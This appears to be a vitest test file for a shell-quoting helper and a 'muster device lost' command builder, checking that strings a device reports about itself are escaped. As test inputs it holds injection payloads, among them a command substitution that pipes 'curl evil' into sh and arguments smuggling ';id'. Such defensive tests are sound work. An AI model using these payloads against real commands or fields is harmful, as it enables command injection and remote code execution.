import { expect, test } from 'vitest';
import { lostCommand } from '../pages/device/lost';
import { quoted } from './quoted';

test('what a device says of itself is one word of a command and runs nothing', () => {
  expect(quoted('PF3XK9')).toBe('PF3XK9');
  expect(quoted('VMware-56 4d')).toBe("'VMware-56 4d'");
  expect(quoted('X$(curl evil|sh)')).toBe("'X$(curl evil|sh)'");
  expect(quoted("it's;id")).toBe("'it'\\''s;id'");
  expect(lostCommand('a;id', '')).toBe("muster device lost 'a;id'");
});
